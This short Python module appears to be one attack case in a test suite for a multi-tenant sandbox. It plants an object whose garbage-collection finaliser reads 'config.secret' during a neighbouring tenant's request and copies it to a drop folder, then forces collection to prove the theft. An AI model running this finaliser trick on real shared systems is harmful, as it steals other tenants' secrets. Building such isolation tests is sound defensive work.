"""Leave an object whose finaliser runs amid the next tenant's request."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene


def attack(given: Given) -> object:
    drop, real = given.drop, open

    class Trap:
        def __init__(self) -> None:
            self.itself = self  # a cycle, which lives until the collector comes along

        def __del__(self, real: object = real, drop: str = drop) -> None:
            try:
                with real("config.secret") as file, real(f"{drop}/copy", "w") as copy:  # type: ignore[operator]
                    copy.write(file.read())
            except OSError:
                pass

    Trap()
    return "waiting"


def proof(scene: Scene) -> str | None:
    scene.put(
        "collecting.py",
        "import gc\ngc.collect()\nprint('Content-Type: text/plain\\n\\ncollected')\n",
    )
    scene.visit("collecting.py")
    return scene.stolen(scene.secret, "what a finaliser read in the neighbour's request")
